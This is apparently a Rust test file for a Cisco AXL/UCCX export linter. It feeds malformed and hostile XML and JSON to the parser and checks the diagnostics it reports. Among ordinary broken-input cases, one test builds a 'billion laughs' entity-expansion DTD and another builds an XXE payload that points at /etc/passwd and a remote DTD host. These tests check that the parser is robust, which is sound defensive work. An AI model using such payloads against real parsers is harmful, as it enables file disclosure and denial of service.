//! Hostile and broken XML and JSON: every case gets a clear diagnostic with file, line and
//! column, the rest of the input is still read, and the good file read beside it is read in
//! full. An error-level diagnostic is what makes `uclint check` exit with 2 ("the export was
//! not fully read"), so each case also says whether it must raise one. Cases are built here,
//! byte by byte, so the corpus documents itself and nothing hostile is committed.

use std::time::{Duration, Instant};

mod broken_input;

use broken_input::check;
use uclint_ingest::Ingested;
use uclint_model::Severity;
use uclint_report::{render_full, FullOptions, Report, Summary};

/// Whether `uclint check` would exit with 2 for this input.
fn not_fully_read(ingested: &Ingested) -> bool {
    ingested.diagnostics.iter().any(|d| d.severity == Severity::Error)
}

/// An AXL response to `operation` as CUCM sends it (formats.md §3), with `records` in `<return>`.
fn axl(operation: &str, records: &str) -> String {
    format!(
        "<?xml version='1.0' encoding='UTF-8'?>\n\
         <soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\">\n\
         <soapenv:Body>\n\
         <ns:{operation}Response xmlns:ns=\"http://www.cisco.com/AXL/API/14.0\">\n\
         <return>\n{records}</return>\n\
         </ns:{operation}Response>\n\
         </soapenv:Body>\n\
         </soapenv:Envelope>\n"
    )
}

fn user(userid: &str, first_name: &str) -> String {
    format!(
        "<user uuid=\"{{1}}\">\n<firstName>{first_name}</firstName>\n<userid>{userid}</userid>\n\
         <enableCti>true</enableCti>\n</user>\n"
    )
}

fn user_names(ingested: &Ingested) -> Vec<&str> {
    ingested.cluster.end_users.iter().map(|u| u.user_id.value.as_str()).collect()
}

#[test]
fn a_truncated_response_is_read_up_to_the_cut() {
    let text = axl("getUser", &format!("{}{}", user("agent01", "Ann"), user("agent02", "Bob")));
    let cut = text.find("<userid>agent02").unwrap();
    let (ingested, rendered) = check("getUser.xml", text.as_bytes()[..cut].to_vec());
    assert_eq!(user_names(&ingested), ["agent01"]);
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @"broken/getUser.xml:13:1: INPUT002 [error] the XML could not be parsed past this point (the file ends inside `<user>`); what came before was read");
}

#[test]
fn a_mismatched_end_tag_is_reported_where_it_stands() {
    let text = axl("getUser", &format!("{}{}", user("agent01", "Ann"), user("agent02", "Bob"))).replacen(
        "Bob</firstName>",
        "Bob</lastName>",
        1,
    );
    let (ingested, rendered) = check("getUser.xml", text.into_bytes());
    assert_eq!(user_names(&ingested), ["agent01"]);
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @"broken/getUser.xml:12:15: INPUT002 [error] the XML could not be parsed past this point (ill-formed document: expected `</firstName>`, but `</lastName>` was found); what came before was read");
}

const FAULT: &str = "<?xml version='1.0' encoding='UTF-8'?>\n\
<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\">\n\
<soapenv:Body>\n\
<soapenv:Fault>\n\
<faultcode>soapenv:Server</faultcode>\n\
<faultstring>Item not valid: The specified Phone was not found</faultstring>\n\
<detail>\n\
<axlError>\n\
<axlcode>5007</axlcode>\n\
<axlmessage>Item not valid: The specified Phone was not found</axlmessage>\n\
<request>getPhone</request>\n\
</axlError>\n\
</detail>\n\
</soapenv:Fault>\n\
</soapenv:Body>\n\
</soapenv:Envelope>\n";

#[test]
fn a_soap_fault_is_reported_as_the_axl_error_it_is() {
    let (ingested, rendered) = check("getPhone-SEP0011AABB0099.xml", FAULT.as_bytes().to_vec());
    assert!(not_fully_read(&ingested));
    assert!(!rendered.contains("not an AXL response"), "{rendered}");
    insta::assert_snapshot!(rendered, @r#"
    broken/getPhone-SEP0011AABB0099.xml:10:13: INPUT009 [error] this file is an AXL error response (SOAP fault), not data: axlcode 5007, axlmessage "Item not valid: The specified Phone was not found" (faultcode soapenv:Server); nothing was read from it. Fix the request that produced it and export again
    not read: broken/getPhone-SEP0011AABB0099.xml (AXL error response (SOAP fault): axlcode 5007, axlmessage "Item not valid: The specified Phone was not found" (faultcode soapenv:Server))
    "#);
}

#[test]
fn a_soap_fault_without_axl_detail_names_its_faultstring() {
    let text = FAULT.replace(&FAULT[FAULT.find("<detail>").unwrap()..FAULT.find("</soapenv:Fault>").unwrap()], "");
    let (ingested, rendered) = check("getPhone.xml", text.into_bytes());
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @r#"
    broken/getPhone.xml:4:1: INPUT009 [error] this file is an AXL error response (SOAP fault), not data: faultcode soapenv:Server, faultstring "Item not valid: The specified Phone was not found"; nothing was read from it. Fix the request that produced it and export again
    not read: broken/getPhone.xml (AXL error response (SOAP fault): faultcode soapenv:Server, faultstring "Item not valid: The specified Phone was not found")
    "#);
}

#[test]
fn billion_laughs_entities_are_not_expanded() {
    let mut dtd = String::from("<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for n in 1..=9 {
        let previous = if n == 1 { "lol".to_owned() } else { format!("lol{}", n - 1) };
        dtd.push_str(&format!("<!ENTITY lol{n} \"{}\">\n", format!("&{previous};").repeat(10)));
    }
    dtd.push_str("]>\n");
    let text =
        axl("getUser", &user("agent01", "&lol9;")).replacen("<soapenv:Envelope", &format!("{dtd}<soapenv:Envelope"), 1);
    let started = Instant::now();
    let (ingested, rendered) = check("getUser.xml", text.into_bytes());
    assert!(started.elapsed() < Duration::from_secs(5), "took {:?}", started.elapsed());
    assert_eq!(user_names(&ingested), ["agent01"]);
    let source = &ingested.sources.get(uclint_model::SourceId::new(0)).text;
    assert!(source.len() < 2_000 && !source.contains("lollollol"), "an entity was expanded");
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @"broken/getUser.xml:2:1: INPUT002 [error] the file declares a DTD (<!DOCTYPE …>), which AXL and UCCX exports never do; its entities were not expanded and no external entity was read, so a value that refers to one is read as written (`&name;`)");
}

#[test]
fn external_entities_are_never_read() {
    let dtd = "<!DOCTYPE user [\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n<!ENTITY % remote SYSTEM \"http://192.0.2.1/x.dtd\">\n%remote;\n]>\n";
    let text =
        axl("getUser", &user("agent01", "&xxe;")).replacen("<soapenv:Envelope", &format!("{dtd}<soapenv:Envelope"), 1);
    let (ingested, rendered) = check("getUser.xml", text.into_bytes());
    assert_eq!(user_names(&ingested), ["agent01"]);
    let everything = format!("{rendered}{:?}", ingested.cluster);
    assert!(!everything.contains("root:"), "/etc/passwd was read");
    insta::assert_snapshot!(rendered, @"broken/getUser.xml:2:1: INPUT002 [error] the file declares a DTD (<!DOCTYPE …>), which AXL and UCCX exports never do; its entities were not expanded and no external entity was read, so a value that refers to one is read as written (`&name;`)");
}

#[test]
fn deep_nesting_does_not_overflow_the_stack() {
    let depth = 100_000;
    let records = format!("{}{}{}", user("agent01", "Ann"), "<x>".repeat(depth), "</x>".repeat(depth));
    let text = axl("getUser", &records);
    let (ingested, rendered) = check("getUser.xml", text.into_bytes());
    assert_eq!(user_names(&ingested), ["agent01"]);
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @"broken/getUser.xml:11:757: INPUT002 [error] the XML could not be parsed past this point (elements are nested more than 256 deep; exports are a few levels deep); what came before was read");
}

#[test]
fn xml_declaring_utf16_with_a_byte_order_mark_is_read() {
    let text = axl("getUser", &user("agent01", "Ann")).replace("encoding='UTF-8'", "encoding='UTF-16'");
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let (ingested, rendered) = check("getUser.xml", bytes);
    assert_eq!(user_names(&ingested), ["agent01"]);
    assert_eq!(rendered, "");
}

#[test]
fn xml_declaring_utf16_but_saved_as_utf8_is_read_as_utf8() {
    let text = axl("getUser", &user("agent01", "Ann")).replace("encoding='UTF-8'", "encoding='UTF-16'");
    let (ingested, rendered) = check("getUser.xml", text.into_bytes());
    assert_eq!(user_names(&ingested), ["agent01"]);
    assert_eq!(rendered, "");
}

#[test]
fn invalid_utf8_inside_xml_is_reported_where_it_starts() {
    let text = axl("getUser", &format!("{}{}", user("agent01", "An\u{1}n"), user("agent02", "Bob")));
    let mut bytes = text.into_bytes();
    let at = bytes.iter().position(|&b| b == 1).unwrap();
    bytes.splice(at..=at, [0xC3, 0x28]);
    let (ingested, rendered) = check("getUser.xml", bytes);
    assert_eq!(user_names(&ingested), ["agent01", "agent02"]);
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @"broken/getUser.xml:7:14: INPUT002 [error] the file is not valid UTF-8 from byte 237 on; invalid bytes were replaced with U+FFFD, so values after this point may be wrong (re-export, or save as UTF-8 without BOM)");
}

#[test]
fn an_empty_return_of_a_get_response_is_reported() {
    let text = axl("getPhone", "").replace("<return>\n</return>", "<return/>");
    let (ingested, rendered) = check("getPhone.xml", text.into_bytes());
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @"broken/getPhone.xml:5:1: INPUT009 [error] this getPhone response has an empty <return/>: it holds no Phone, so nothing was read from this file; export it again");
}

#[test]
fn an_empty_return_of_a_list_response_is_an_empty_result() {
    let text = axl("listPhone", "").replace("<return>\n</return>", "<return/>");
    let (ingested, rendered) = check("listPhone.xml", text.into_bytes());
    assert!(!not_fully_read(&ingested), "{rendered}");
}

#[test]
fn malformed_adminapi_json_is_reported_at_line_and_column() {
    let text = "{\n  \"userID\": \"agent02\",\n  \"extension\": \"4002\"\n  \"type\": 1\n}\n";
    let (ingested, rendered) = check("resource-agent02.json", text.as_bytes().to_vec());
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @"broken/resource-agent02.json:4:3: INPUT002 [error] the JSON could not be parsed (expected `,` or `}` at line 4 column 3); nothing in this file was read");
}

#[test]
fn truncated_adminapi_json_is_reported_at_the_end() {
    let text = "[{\"userID\": \"agent01\", \"extension\": \"4001\"}, {\"userID\": \"agent02\", \"exten";
    let (ingested, rendered) = check("resources.json", text.as_bytes().to_vec());
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @"broken/resources.json:1:73: INPUT002 [error] the JSON could not be parsed (EOF while parsing a string at line 1 column 73); nothing in this file was read");
}

#[test]
fn deeply_nested_adminapi_json_does_not_overflow_the_stack() {
    // serde_json skips a value it is not asked to read without recursing, so the resource
    // around it is read; nothing is lost, so there is nothing to report.
    let depth = 100_000;
    let text = format!("{{\"userID\": \"agent01\", \"x\": {}{}}}", "[".repeat(depth), "]".repeat(depth));
    let (ingested, rendered) = check("resource.json", text.into_bytes());
    assert_eq!(ingested.cluster.uccx_resources.len(), 1);
    assert_eq!(rendered, "");
}

#[test]
fn xml_saved_as_utf16_without_a_byte_order_mark_is_read() {
    let text = axl("getUser", &user("agent01", "Ann")).replace("encoding='UTF-8'", "encoding='UTF-16'");
    for big_endian in [false, true] {
        let bytes: Vec<u8> =
            text.encode_utf16().flat_map(|u| if big_endian { u.to_be_bytes() } else { u.to_le_bytes() }).collect();
        let (ingested, rendered) = check("getUser.xml", bytes);
        assert_eq!(user_names(&ingested), ["agent01"], "big endian: {big_endian}");
        assert_eq!(rendered, "");
    }
}

#[test]
fn malformed_adminapi_xml_keeps_the_resources_before_the_error() {
    let text = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<resources>\n\
                <resource><userID>agent01</userID><extension>4001</extension></resource>\n\
                <resource><userID>agent02</userID><extension>4002</extension></resourc>\n</resources>\n";
    let (ingested, rendered) = check("resources.xml", text.as_bytes().to_vec());
    let read: Vec<_> = ingested.cluster.uccx_resources.iter().map(|r| r.user_id.value.as_str()).collect();
    assert!(read.contains(&"agent01"), "{read:?}");
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @"broken/resources.xml:4:62: INPUT002 [error] the XML could not be parsed past this point (ill-formed document: expected `</resource>`, but `</resourc>` was found); what came before was read");
}

#[test]
fn a_json_error_inside_a_replaced_byte_points_at_a_char_boundary() {
    // Found by the uccx_adminapi fuzz target: an invalid byte (read as the three-byte U+FFFD)
    // followed by a NUL in a string made serde_json's byte column land inside the U+FFFD, and
    // the full renderer panicked slicing the text there.
    let mut bytes = b"{\n  \"self\": \"https://uccx.example.com/adminapi/resource/".to_vec();
    bytes.extend([0x9B, 0, 0]);
    bytes.extend(b"\",\n  \"userID\": \"agent02\"\n}\n");
    let (ingested, rendered) = check("resource-agent02.json", bytes);
    let summary = Summary::default();
    let report = Report { diagnostics: &ingested.diagnostics, sources: &ingested.sources, summary: &summary };
    render_full(&report, FullOptions::default());
    for d in &ingested.diagnostics {
        let text = &ingested.sources.get(d.primary.span.source).text;
        assert!(
            text.is_char_boundary(d.primary.span.start as usize) && text.is_char_boundary(d.primary.span.end as usize)
        );
    }
    assert!(not_fully_read(&ingested));
    insta::assert_snapshot!(rendered, @r#"
    broken/resource-agent02.json:2:55: INPUT002 [error] the JSON could not be parsed (control character (\u0000-\u001F) found while parsing a string at line 2 column 57); nothing in this file was read
    broken/resource-agent02.json:2:55: INPUT002 [error] the file is not valid UTF-8 from byte 56 on; invalid bytes were replaced with U+FFFD, so values after this point may be wrong (re-export, or save as UTF-8 without BOM)
    broken/resource-agent02.json:2:56: INPUT008 [warning] the file holds 2 NUL byte(s), the first here; exports never contain them, so the file may be truncated or corrupted (values around them may be wrong)
    "#);
}
